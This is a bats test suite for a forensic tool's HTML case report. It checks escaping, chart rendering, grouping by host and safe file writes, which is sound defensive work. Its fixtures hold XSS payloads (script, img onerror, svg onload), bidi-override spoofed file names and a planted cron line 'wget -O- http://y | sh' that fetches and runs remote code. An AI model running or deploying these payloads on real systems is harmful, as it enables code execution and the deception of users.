#!/usr/bin/env bats
# report: rendered in headless Chromium (an independent HTML/SVG engine);
# the screenshot must show the chart, hostile values must stay text.
bats_require_minimum_version 1.5.0

load helpers

setup_file() {
	export CASE_DIR=$(mktemp -d "${BATS_TMPDIR:-/tmp}/irkit-report.XXXXXX")
	python3 "$IRKIT_SRC/tests/e2e/mkcase.py" "$CASE_DIR/case.db" --events 3000
	python3 "$IRKIT_SRC/tests/e2e/mkcase.py" "$CASE_DIR/hostile.db" --events 300 --hostile
}

teardown_file() {
	rm -rf "$CASE_DIR"
}

setup() {
	setup_scratch
}

teardown() {
	full_fs_gone "$SCRATCH/full"
	teardown_scratch
}

# sql_py DB [ARG]: the Python on stdin, with c a connection to DB; commit
sql_py() {
	python3 -c 'import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
exec(sys.stdin.read())
c.commit()' "$@"
}

# report_dom DB OUT: the report (OUT.html), the DOM Chromium makes of it
# (OUT.dom.html) and its tables and charts as JSON (OUT.json)
report_dom() {
	"$ANALYZE" report --db "$1" -o "$2.html"
	chrome --dump-dom "file://$2.html" > "$2.dom.html"
	python3 "$IRKIT_SRC/tests/e2e/dom_tables.py" "$2.dom.html" > "$2.json"
}

@test "report: one self-contained file, nothing fetched, no script" {
	run "$ANALYZE" report --db "$CASE_DIR/case.db" -o "$SCRATCH/r.html"
	[ "$status" -eq 0 ]
	f=$SCRATCH/r.html
	grep -q '<svg' "$f"
	grep -q '<style>' "$f"
	! grep -qi '<script' "$f" || false
	! grep -Eqi '(src|href)="(https?:|//)' "$f" || false
	! grep -qi '<link' "$f" || false
	grep -q '@media print' "$f"
	grep -q "Content-Security-Policy" "$f"
	# every section is there
	for id in evidence hosts activity findings yara processes services tasks certificates keys iocs log; do
		grep -q "id=\"$id\"" "$f"
	done
	# findings ranked by score
	scores=$(grep -o 'class="score s-[a-z]*">[0-9]*' "$f" | sed 's/.*>//' | tr '\n' ' ')
	[ "$scores" = "95 80 60 40 30 " ]
	grep -q 'damaged' "$f"
	grep -q 'APT_Backdoor_SUNBURST' "$f"
}

@test "report: Chromium renders the activity chart" {
	"$ANALYZE" report --db "$CASE_DIR/case.db" -o "$SCRATCH/r.html"
	chrome --screenshot="$SCRATCH/shot.png" --window-size=1280,2000 "file://$SCRATCH/r.html"
	[ -s "$SCRATCH/shot.png" ]
	# decode the PNG with zlib and look for the first host's bar colour
	# (#1f77b4) over an area only the chart's bars cover
	python3 - "$SCRATCH/shot.png" <<-'EOF'
	import struct, sys, zlib
	data = open(sys.argv[1], "rb").read()
	assert data[:8] == b"\x89PNG\r\n\x1a\n"
	pos, idat, w = 8, b"", 0
	while pos < len(data):
	    n, t = struct.unpack(">I4s", data[pos:pos + 8])
	    body = data[pos + 8:pos + 8 + n]
	    if t == b"IHDR":
	        w, h, depth, ctype, _, _, inter = struct.unpack(">IIBBBBB", body)
	        assert depth == 8 and inter == 0 and ctype in (2, 6), (depth, ctype)
	        bpp = 3 if ctype == 2 else 4
	    elif t == b"IDAT":
	        idat += body
	    pos += 12 + n
	raw = zlib.decompress(idat)
	stride = w * bpp
	prev = bytearray(stride)
	xs, ys, hits = [], [], 0
	for y in range(h):
	    f = raw[y * (stride + 1)]
	    line = bytearray(raw[y * (stride + 1) + 1:(y + 1) * (stride + 1)])
	    for i in range(stride):
	        a = line[i - bpp] if i >= bpp else 0
	        b = prev[i]
	        c = prev[i - bpp] if i >= bpp else 0
	        if f == 1: line[i] = (line[i] + a) & 255
	        elif f == 2: line[i] = (line[i] + b) & 255
	        elif f == 3: line[i] = (line[i] + (a + b) // 2) & 255
	        elif f == 4:
	            p = a + b - c; pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
	            line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
	    for x in range(0, w, 2):
	        r, g, bl = line[x * bpp:x * bpp + 3]
	        if abs(r - 0x1f) < 6 and abs(g - 0x77) < 6 and abs(bl - 0xb4) < 6:
	            hits += 1; xs.append(x); ys.append(y)
	    prev = line
	assert hits > 2000, hits
	# bars spread across the page width and stand tall: a chart, not a
	# legend swatch
	assert max(xs) - min(xs) > 600, (min(xs), max(xs))
	assert max(ys) - min(ys) > 60, (min(ys), max(ys))
	print("chart pixels", hits, "x", min(xs), max(xs), "y", min(ys), max(ys))
	EOF
}

@test "report: hostile values are shown as text, never run" {
	"$ANALYZE" report --db "$CASE_DIR/hostile.db" -o "$SCRATCH/h.html"
	! grep -qi '<script' "$SCRATCH/h.html" || false
	! grep -qi '<img' "$SCRATCH/h.html" || false
	grep -q '&lt;script&gt;alert(1)&lt;/script&gt;' "$SCRATCH/h.html"
	# Chromium with JavaScript on: the DOM holds the text, no injected
	# element, and the title was not changed by an injected handler
	chrome --dump-dom --virtual-time-budget=2000 "file://$SCRATCH/h.html" > "$SCRATCH/dom.html"
	[ -s "$SCRATCH/dom.html" ]
	grep -q '&lt;script&gt;alert(1)&lt;/script&gt;' "$SCRATCH/dom.html"
	grep -q "&lt;img src=x onerror=\"document.title='pwned'\"&gt;" "$SCRATCH/dom.html"
	! grep -qi '<script' "$SCRATCH/dom.html" || false
	! grep -qi '<img' "$SCRATCH/dom.html" || false
	grep -q '<title>irkit case report' "$SCRATCH/dom.html"
	! grep -q '<title>pwned' "$SCRATCH/dom.html" || false
	# the non-UTF-8 name is shown with its bytes as \xNN
	grep -q 'bad utf8 \\xff\\xfe end' "$SCRATCH/h.html"
	# a file name with a newline stays one cell
	python3 -c "
import sys; t = open('$SCRATCH/h.html', encoding='utf-8').read()
assert '&quot;quoted&quot;' in t"
}

@test "report: a huge case stays bounded, an empty case still renders" {
	db=$SCRATCH/big.db
	cp "$CASE_DIR/case.db" "$db"
	python3 - "$db" <<-'EOF'
	import sqlite3, sys
	c = sqlite3.connect(sys.argv[1])
	c.executemany("INSERT INTO findings(evidence_id, host_id, score, title, reasons) VALUES (1,1,?,?,'[]')",
	              [(i % 100, "finding %d" % i) for i in range(5000)])
	c.executemany("INSERT INTO processes(evidence_id, host_id, pid, name, exe_deleted) VALUES (1,1,?,?,1)",
	              [(10000 + i, "p%d" % i) for i in range(3000)])
	c.commit()
	EOF
	"$ANALYZE" report --db "$db" -o "$SCRATCH/big.html"
	[ "$(stat -c %s "$SCRATCH/big.html")" -lt 3000000 ]
	grep -q '4905 more findings in the database' "$SCRATCH/big.html"
	grep -q '2901 more in the database' "$SCRATCH/big.html"
	# an empty database (schema only)
	sqlite3 "$SCRATCH/empty.db" < "$IRKIT_SRC/analyzer/schema.sql"
	run "$ANALYZE" report --db "$SCRATCH/empty.db" -o "$SCRATCH/e.html"
	[ "$status" -eq 0 ]
	grep -q 'No dated events in the timeline' "$SCRATCH/e.html"
	grep -q 'No findings' "$SCRATCH/e.html"
}

@test "report: a wide time range switches to day buckets and a log scale" {
	db=$SCRATCH/wide.db
	cp "$CASE_DIR/case.db" "$db"
	python3 - "$db" <<-'EOF'
	import sqlite3, sys
	c = sqlite3.connect(sys.argv[1])
	day = 86400 * 1000000
	t0 = 1763762400 * 1000000
	c.executemany("INSERT INTO events(ts, ts_desc, source, host, message) VALUES (?,?,?,?,?)",
	              [(t0 - (i % 90) * day, "Content Modification Time", "FILE", "web01", "old %d" % i)
	               for i in range(2000)])
	c.commit()
	EOF
	"$ANALYZE" report --db "$db" -o "$SCRATCH/w.html"
	grep -q 'one bar per day; events, log scale' "$SCRATCH/w.html"
}

@test "report: bad usage and bad databases fail" {
	run "$ANALYZE" report --db "$SCRATCH/none.db" -o "$SCRATCH/x.html"
	[ "$status" -eq 3 ]
	[ ! -e "$SCRATCH/x.html" ]
	echo "junk" > "$SCRATCH/junk.db"
	run "$ANALYZE" report --db "$SCRATCH/junk.db" -o "$SCRATCH/x.html"
	[ "$status" -eq 3 ]
	run "$ANALYZE" report --bogus
	[ "$status" -eq 2 ]
	run "$ANALYZE" report --db "$CASE_DIR/case.db" extra
	[ "$status" -eq 2 ]
}

@test "report and export: a real ingest (YARA fixtures) end to end" {
	export XDG_CACHE_HOME=$SCRATCH/cache
	python3 "$IRKIT_SRC/tests/gen/yara_fixtures.py" "$SCRATCH/fx" > /dev/null
	run "$ANALYZE" ingest --db "$SCRATCH/p.db" "$SCRATCH/fx"
	[ "$status" -le 1 ]
	"$ANALYZE" report --db "$SCRATCH/p.db" -o "$SCRATCH/p.html"
	# every rule that matched is in the YARA table (up to the cap)
	n=$(sqlite3 "$SCRATCH/p.db" "SELECT count(*) FROM yara_matches")
	[ "$n" -gt 0 ]
	for rule in $(sqlite3 "$SCRATCH/p.db" "SELECT DISTINCT rule FROM yara_matches ORDER BY score DESC LIMIT 20"); do
		grep -q "<b>$rule</b>" "$SCRATCH/p.html"
	done
	# the best finding leads the report
	top=$(sqlite3 "$SCRATCH/p.db" "SELECT score FROM findings ORDER BY score DESC LIMIT 1")
	first=$(grep -o 'class="score s-[a-z]*">[0-9]*' "$SCRATCH/p.html" | head -1 | sed 's/.*>//')
	[ "$first" = "$top" ]
	# every event is exported once; mactime agrees with the files table
	"$ANALYZE" export --db "$SCRATCH/p.db" --format jsonl -o "$SCRATCH/p.jsonl"
	[ "$(wc -l < "$SCRATCH/p.jsonl")" -eq "$(sqlite3 "$SCRATCH/p.db" 'SELECT count(*) FROM events')" ]
	"$ANALYZE" export --db "$SCRATCH/p.db" --format bodyfile -o "$SCRATCH/body"
	want=$(sqlite3 "$SCRATCH/p.db" "
		WITH f AS (SELECT * FROM files WHERE coalesce(atime, mtime, ctime, btime) IS NOT NULL),
		t AS (SELECT id, atime AS x FROM f UNION ALL SELECT id, mtime FROM f
		      UNION ALL SELECT id, ctime FROM f UNION ALL SELECT id, btime FROM f)
		SELECT count(*) FROM (SELECT DISTINCT id, CASE WHEN x IS NULL OR x < 0 THEN 0 ELSE x / 1000000 END FROM t)")
	got=$(mactime -b "$SCRATCH/body" -d -z UTC | python3 -c "import csv, sys; print(len(list(csv.reader(sys.stdin))) - 1)")
	[ "$got" -eq "$want" ]
}

# Rows of a second host in every table, ranked so that sorting by score
# alone would interleave the hosts.
add_second_host() {
	sql_py "$1" <<-'EOF2'
	t0 = 1763762400 * 1000000
	x = c.execute
	# host 2 (db02, evidence 2): a process above web01's score and one below
	x("INSERT INTO processes(id, evidence_id, host_id, pid, name, exe, exe_deleted, start_time)"
	  " VALUES (50, 2, 2, 4242, 'miner', '/tmp/.m/miner', 1, ?)", (t0,))
	x("INSERT INTO processes(id, evidence_id, host_id, pid, name, exe, exe_deleted, hidden)"
	  " VALUES (51, 2, 2, 4343, 'ghost', '/usr/bin/ghost', 0, 1)")
	x("INSERT INTO services(id, evidence_id, host_id, name, kind, command) VALUES"
	  " (2, 2, 2, 'x-update.service', 'systemd', '/tmp/x')")
	x("INSERT INTO tasks(id, evidence_id, host_id, kind, schedule, command, source_path)"
	  " VALUES (2, 2, 2, 'cron', '@reboot', 'wget -O- http://y | sh', '/etc/cron.d/y')")
	x("INSERT INTO certificates(id, evidence_id, host_id, path, subject, sha256, is_ca,"
	  " in_trust_store) VALUES (2, 2, 2, '/usr/local/share/ca-certificates/y.crt',"
	  " 'CN=Other Root', ?, 1, 1)", ("cd" * 32,))
	x("INSERT INTO private_keys(id, evidence_id, host_id, path, format, key_type, bits,"
	  " encrypted) VALUES (2, 2, 2, '/root/k.pem', 'pkcs8', 'rsa', 2048, 0)")
	# a YARA match on a web01 file (file 4) beside db02's (file 3)
	x("INSERT INTO yara_matches(id, file_id, rule, score) VALUES (2, 4, 'Webshell_Generic', 95)")
	x("INSERT INTO ioc_hits(file_id, kind, value, ioc_source) VALUES (3, 'sha256', 'aa', 'iocs/x.txt:1')")
	x("INSERT INTO ioc_hits(file_id, kind, value, ioc_source) VALUES (4, 'sha256', 'bb', 'iocs/x.txt:2')")
	x("INSERT INTO ioc_hits(record_table, record_id, kind, value, ioc_source) VALUES"
	  " ('processes', 50, 'ip', '45.77.1.2', 'iocs/ip.txt:3')")
	x("INSERT INTO ioc_hits(file_id, kind, value, ioc_source) VALUES (5, 'md5', 'cc', 'iocs/x.txt:4')")
	for i, (score, table, rid) in enumerate([(85, "processes", 50), (50, "services", 2),
	                                         (90, "tasks", 2), (20, "certificates", 2),
	                                         (10, "private_keys", 2)], 10):
	    x("INSERT INTO findings(id, evidence_id, host_id, score, title, category, reasons, ts)"
	      " VALUES (?, 2, 2, ?, ?, 'x', '[]', ?)", (i, score, "db02 finding %d" % i, t0))
	    x("INSERT INTO finding_links VALUES (?, ?, ?)", (i, table, rid))
	x("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES"
	  " (2, ?, 'warning', 'processes', '/proc/9', 'cannot read')", (t0,))
	x("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES"
	  " (1, ?, 'error', 'files', '/etc/shadow', 'permission denied')", (t0,))
	EOF2
}

@test "report: every table names the host and evidence of each row, rows grouped by host (Chromium DOM)" {
	db=$SCRATCH/two.db
	cp "$CASE_DIR/case.db" "$db"
	add_second_host "$db"
	report_dom "$db" "$SCRATCH/two"
	# the oracle: which host each section's rows belong to, from sqlite3
	python3 - "$db" "$SCRATCH/two.json" <<-'EOF'
	import collections, json, re, sqlite3, sys
	c = sqlite3.connect(sys.argv[1])
	t = json.load(open(sys.argv[2]))["tables"]
	host_of_ev = dict(c.execute("SELECT e.id, h.hostname FROM evidence e JOIN hosts h ON h.id = e.host_id"))
	def hosts(sql):
	    return collections.Counter(h for (h,) in c.execute(sql))
	linked = lambda tbl, extra="0": hosts(
	    "SELECT h.hostname FROM %s t JOIN hosts h ON h.id = t.host_id WHERE t.id IN "
	    "(SELECT record_id FROM finding_links WHERE record_table = '%s') OR %s" % (tbl, tbl, extra))
	want = {
	    "evidence": hosts("SELECT h.hostname FROM evidence e JOIN hosts h ON h.id = e.host_id"),
	    "hosts": hosts("SELECT hostname FROM hosts"),
	    "yara": hosts("SELECT h.hostname FROM yara_matches y JOIN files f ON f.id = y.file_id JOIN hosts h ON h.id = f.host_id"),
	    "processes": linked("processes", "t.exe_deleted = 1 OR t.hidden = 1"),
	    "services": linked("services"), "tasks": linked("tasks"),
	    "certificates": linked("certificates"), "keys": linked("private_keys"),
	    "iocs": hosts("SELECT h.hostname FROM ioc_hits i LEFT JOIN files f ON f.id = i.file_id "
	                  "LEFT JOIN processes p ON i.record_table = 'processes' AND p.id = i.record_id "
	                  "JOIN hosts h ON h.id = coalesce(f.host_id, p.host_id)"),
	    "log": hosts("SELECT hostname FROM (SELECT DISTINCT h.hostname, l.level, l.component, "
	                 "l.message FROM log l JOIN evidence e ON e.id = l.evidence_id "
	                 "JOIN hosts h ON h.id = e.host_id WHERE l.level IN ('error', 'warning'))"),
	}
	for sec, counts in want.items():
	    assert len(set(counts)) == 2, (sec, counts)	# the case really has both hosts
	    tables = t[sec]
	    assert len(tables) == 1, (sec, len(tables))
	    hd, rows = tables[0]["headers"], tables[0]["rows"]
	    hi, ei = hd.index("Host"), hd.index("Evidence")
	    got = [r[hi].strip() for r in rows]
	    assert collections.Counter(got) == counts, (sec, got, counts)
	    # grouped: once a host's rows end, that host does not come back
	    seen = [h for i, h in enumerate(got) if i == 0 or got[i - 1] != h]
	    assert len(seen) == len(set(seen)), (sec, got)
	    # each row's evidence (#id name) is of that row's host
	    for r in rows:
	        ids = re.findall(r"^#(\d+) \S", r[ei].strip(), re.M)
	        assert ids, (sec, r[ei])
	        assert all(host_of_ev[int(i)] == r[hi].strip() for i in ids), (sec, r)
	    print(sec, got)
	# findings: a table per host, and each finding names its host and evidence
	fh = t["findings"][0]
	assert fh["headers"][:2] == ["Host", "Evidence"], fh["headers"]
	assert sorted(r[0] for r in fh["rows"]) == ["db02", "web01"], fh["rows"]
	EOF
	grep -q 'host db02 &middot; .*finding 10, evidence #2 irkit-db02-20251121T220000Z.tar.zst</div>' "$SCRATCH/two.html"
}

@test "report: problems of one kind are one row with a count and examples; errors first, never folded" {
	db=$SCRATCH/log.db
	cp "$CASE_DIR/case.db" "$db"
	sql_py "$db" <<-'EOF2'
	t0 = 1763762400 * 1000000
	rows = [(2, t0 + i, "warning", "certificates",
	         "/usr/lib/python3/dist-packages/pkg%d/tests/bad%d.pem" % (i % 7, i),
	         "PEM block %d 'CERTIFICATE': bad base64" % (i % 4)) for i in range(100)]
	rows += [(2, t0 + 200 + i, "warning", "processes", "/proc/%d/exe" % (900 + i),
	          "cannot read: Permission denied") for i in range(2)]
	# errors come last in time: they must still lead their host
	rows += [(2, t0 + 500, "error", "files", "/etc/shadow", "cannot read: Permission denied")]
	# rule compile errors (the analyzer's own, no evidence): each its own row
	rows += [(None, t0 + 600 + i, "error", "rules", "/rules/bad%d.yar" % i,
	          "rule file 'bad%d.yar' line %d: syntax error" % (i, 3 + i)) for i in range(2)]
	c.executemany("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES (?,?,?,?,?,?)", rows)
	EOF2
	report_dom "$db" "$SCRATCH/log"
	python3 - "$SCRATCH/log.json" <<-'EOF2'
	import json, sys
	t = json.load(open(sys.argv[1]))["tables"]["log"][0]
	hd, rows = t["headers"], t["rows"]
	col = {h: hd.index(h) for h in ("Host", "Level", "Component", "Count", "Examples", "Problem")}
	got = [(r[col["Host"]], r[col["Level"]], r[col["Component"]], int(r[col["Count"]])) for r in rows]
	print(got)
	assert got == [
	    ("(analysis, no host)", "error", "rules", 1),
	    ("(analysis, no host)", "error", "rules", 1),
	    ("db02", "error", "files", 1),
	    ("db02", "warning", "certificates", 100),
	    ("db02", "warning", "processes", 2),
	], got
	assert "bad0.yar" in rows[0][col["Problem"]] and "bad1.yar" in rows[1][col["Problem"]]
	# the first examples, and how many more
	ex = rows[3][col["Examples"]]
	assert ex.startswith("/usr/lib/python3/dist-packages/pkg0/tests/bad0.pem: PEM block 0 'CERTIFICATE': bad base64\n"), ex
	assert ex.count("bad base64") == 3 and ex.endswith("97 more"), ex
	assert rows[4][col["Examples"]].count("/proc/") == 2
	EOF2
	[ "$(sqlite3 "$db" "SELECT count(*) FROM log WHERE level IN ('error', 'warning')")" -eq 105 ]
	grep -q '3 errors and 102 warnings in the log' "$SCRATCH/log.html"
}

# A small case: host activity on one day, and certificates valid
# 2000-01-01..2099-12-31 (their validity dates are events too).
mk_cert_case() {
	sqlite3 "$1" < "$IRKIT_SRC/analyzer/schema.sql"
	sql_py "$1" "${2:-1}" <<-'EOF2'
	ncert = int(sys.argv[2])
	day = 1763683200 * 1000000	# 2025-11-21T00:00:00Z
	nb, na = 946684800 * 1000000, 4102444799 * 1000000	# 2000-01-01, 2099-12-31
	c.execute("INSERT INTO hosts(id, hostname) VALUES (1, 'web01')")
	c.execute("INSERT INTO evidence(id, path, sha256, kind, host_id) VALUES (1, '/c/a.tar.zst', 'aa', 'irkit', 1)")
	for i in range(30):
	    c.execute("INSERT INTO events(ts, ts_desc, source, host, path, message, evidence_id) VALUES"
	              " (?, 'Content Modification Time', 'FILE', 'web01', ?, 'file', 1)",
	              (day + (8 * 3600 + i * 600) * 1000000, "/var/www/f%d" % i))
	for i in range(ncert):
	    c.execute("INSERT INTO certificates(id, evidence_id, host_id, path, subject, not_before, not_after)"
	              " VALUES (?, 1, 1, '/etc/ssl/certs/ca-certificates.crt', 'CN=Old Root', ?, ?)", (i + 1, nb, na))
	    for t, d in ((nb, "Certificate Not Before"), (na, "Certificate Not After")):
	        c.execute("INSERT INTO events(ts, ts_desc, source, host, path, message, evidence_id, record_table,"
	                  " record_id) VALUES (?, ?, 'CERT', 'web01', '/etc/ssl/certs/ca-certificates.crt',"
	                  " 'certificate CN=Old Root', 1, 'certificates', ?)", (t, d, i + 1))
	EOF2
}

# the x axis labels of chart N (0 the first) in report_dom's JSON
chart_labels() {
	python3 -c "
import json, re, sys
ch = json.load(sys.stdin)['charts'][$2]
print('\n'.join(t for t in ch['texts'] if re.match(r'\d{4}-\d\d-\d\d', t)))" < "$1"
}

@test "report: certificate validity dates do not set the activity chart's range (Chromium DOM)" {
	for n in 1 40; do
		db=$SCRATCH/c$n.db
		mk_cert_case "$db" $n
		report_dom "$db" "$SCRATCH/c$n"
		chart_labels "$SCRATCH/c$n.json" 0 > "$SCRATCH/labels$n"
		cat "$SCRATCH/labels$n"
		# hours around 2025-11-21, not years from 2000 to 2099
		[ "$(wc -l < "$SCRATCH/labels$n")" -ge 4 ]
		! grep -v '^2025-11-2[012] [0-9][0-9]:00$' "$SCRATCH/labels$n" || false
		grep -q '^2025-11-21 ' "$SCRATCH/labels$n"
		grep -q 'one bar per hour' "$SCRATCH/c$n.dom.html"
		grep -q "Not drawn: $((2 * n)) certificate validity dates" "$SCRATCH/c$n.dom.html"
		# still in the timeline and in the exports
		[ "$(sqlite3 "$db" "SELECT count(*) FROM events WHERE source = 'CERT' AND ts_desc LIKE 'Certificate Not %'")" -eq $((2 * n)) ]
		"$ANALYZE" export --db "$db" --format csv -o "$SCRATCH/e$n.csv"
		[ "$(grep -c '^[0-9]*,946684800000000,2000-01-01T00:00:00' "$SCRATCH/e$n.csv")" -eq "$n" ]
		[ "$(grep -c '2099-12-31T23:59:59' "$SCRATCH/e$n.csv")" -eq "$n" ]
	done
}

@test "report: the chart around the findings draws what its heading says" {
	db=$SCRATCH/around.db
	mk_cert_case "$db" 1
	# activity over 60 days (day buckets) and findings 12 days apart
	sql_py "$db" <<-'EOF'
	day = 86400 * 1000000
	t0 = 1763683200 * 1000000 - 60 * day
	c.executemany("INSERT INTO events(ts, ts_desc, source, host, message) VALUES (?, 'Process Start', 'PROCESS', 'web01', 'p')",
	              [(t0 + i * day // 10,) for i in range(600)])
	for i, t in enumerate((t0 + 40 * day, t0 + 52 * day + 3600 * 1000000)):
	    c.execute("INSERT INTO findings(id, evidence_id, host_id, score, title, ts) VALUES (?, 1, 1, 80, 'f', ?)", (i + 1, t))
	EOF
	report_dom "$db" "$SCRATCH/a"
	python3 - "$SCRATCH/a.json" <<-'EOF'
	import json, re, sys
	from datetime import datetime
	ch = json.load(open(sys.argv[1]))["charts"]
	assert len(ch) == 2, len(ch)
	assert any("one bar per day" in t for t in ch[0]["texts"]), ch[0]["texts"]
	title = ch[1]["title"]
	print(title)
	unit = re.search(r"one bar per (\w+)", title).group(1)
	# the heading's unit is the one the chart's own caption gives
	cap = [t for t in ch[1]["texts"] if "one bar per" in t]
	assert cap and ("one bar per %s;" % unit) in cap[0], (title, cap)
	assert unit == "hour", title
	# its range: the heading's, and the labels inside it
	m = re.search(r"(\d{4}-\d\d-\d\d \d\d:\d\d) to (\d{4}-\d\d-\d\d \d\d:\d\d)", title)
	lo, hi = (datetime.strptime(x, "%Y-%m-%d %H:%M") for x in m.groups())
	labels = [datetime.strptime(t, "%Y-%m-%d %H:%M") for t in ch[1]["texts"] if re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d$", t)]
	assert labels and all(lo <= l <= hi for l in labels), (lo, hi, labels)
	assert (hi - lo).days <= 10, (lo, hi)
	EOF
	grep -q 'The findings span more than 9 days' "$SCRATCH/a.html"
}

@test "report: hostile host names, evidence paths and log lines in the new columns stay text" {
	db=$SCRATCH/hh.db
	cp "$CASE_DIR/hostile.db" "$db"
	sql_py "$db" <<-'EOF2'
	c.execute("UPDATE hosts SET hostname = '<img src=x onerror=\"document.title=1\">' WHERE id = 2")
	c.execute("UPDATE evidence SET path = '/cases/<svg onload=alert(3)>.tar.zst' WHERE id = 2")
	c.execute("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES"
	          " (2, 1, 'warning', '<b>c</b>', '/x/<i>p</i>', '<script>alert(4)</script> 12 ''q''')")
	c.execute("INSERT INTO processes(evidence_id, host_id, pid, name, exe_deleted) VALUES (2, 2, 7, 'p', 1)")
	EOF2
	"$ANALYZE" report --db "$db" -o "$SCRATCH/hh.html"
	chrome --dump-dom --virtual-time-budget=2000 "file://$SCRATCH/hh.html" > "$SCRATCH/dom.html"
	! grep -qi '<script' "$SCRATCH/dom.html" || false
	! grep -qi '<img' "$SCRATCH/dom.html" || false
	! grep -q '<b>c</b>' "$SCRATCH/dom.html" || false
	! grep -q '<svg onload' "$SCRATCH/dom.html" || false
	grep -q '#2 &lt;svg onload=alert(3)&gt;.tar.zst' "$SCRATCH/dom.html"
	grep -q '&lt;img src=x onerror="document.title=1"&gt;</td>' "$SCRATCH/dom.html"
	grep -q "&lt;script&gt;alert(N)&lt;/script&gt; N '...'" "$SCRATCH/dom.html"
	grep -q '<title>irkit case report' "$SCRATCH/dom.html"
}

@test "report: on a full disk no file is left at the target, nor a temporary; an existing one stays" {
	full_fs "$SCRATCH/full" 16k
	f="$SCRATCH/full/out.html"
	run "$ANALYZE" report --db "$CASE_DIR/case.db" -o "$f"
	echo "$output"
	[ "$status" -eq 3 ]
	[[ "$output" == *"writing '$f' failed: No space left on device"* ]]
	[ -z "$(ls -A "$SCRATCH/full")" ]
	# an earlier output is replaced only by a complete one
	echo earlier > "$f"
	umask 022
	run "$ANALYZE" report --db "$CASE_DIR/case.db" -o "$f"
	[ "$status" -eq 3 ]
	[ "$(ls -A "$SCRATCH/full")" = "out.html" ]
	[ "$(cat "$f")" = earlier ]
}

@test "report: a complete output replaces the earlier file; no temporary is left" {
	mkdir "$SCRATCH/o"
	f="$SCRATCH/o/out.html"
	echo earlier > "$f"
	umask 022
	run "$ANALYZE" report --db "$CASE_DIR/case.db" -o "$f"
	[ "$status" -eq 0 ]
	[ "$(ls -A "$SCRATCH/o")" = "out.html" ]
	# the mode a new file gets (not a temporary's 0600)
	[ "$(stat -c %a "$f")" = 644 ]
	[ "$(head -c 7 "$f")" != earlier ]
	[ "$(wc -c < "$f")" -gt 1000 ]
}

@test "report: bidirectional controls (U+202E, ...) in names are shown as \\uXXXX text, never raw (Chromium DOM)" {
	db=$SCRATCH/bidi.db
	cp "$CASE_DIR/hostile.db" "$db"
	sql_py "$db" <<-'EOF2'
	c.execute("INSERT INTO processes(evidence_id, host_id, pid, name, exe, exe_deleted) VALUES"
	          " (1, 1, 4242, 'invoice\u202Efdp.exe', '/tmp/a\u2066b\u2069c\u200e\u200f\u061c\u202a', 1)")
	c.execute("INSERT INTO findings(evidence_id, host_id, score, title, category) VALUES"
	          " (1, 1, 99, 'process photo\u202Egpj.exe from a deleted file', 'process')")
	EOF2
	"$ANALYZE" report --db "$db" -o "$SCRATCH/bidi.html"
	chrome --dump-dom "file://$SCRATCH/bidi.html" > "$SCRATCH/bidi.dom.html"
	for f in bidi.html bidi.dom.html; do
		python3 - "$SCRATCH/$f" <<-'EOF2'
		import re, sys
		t = open(sys.argv[1], encoding="utf-8").read()
		raw = re.findall("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", t)
		assert not raw, [hex(ord(c)) for c in raw]
		assert "invoice\\u202Efdp.exe" in t
		assert "/tmp/a\\u2066b\\u2069c\\u200E\\u200F\\u061C\\u202A" in t
		assert "process photo\\u202Egpj.exe from a deleted file" in t
		EOF2
	done
}
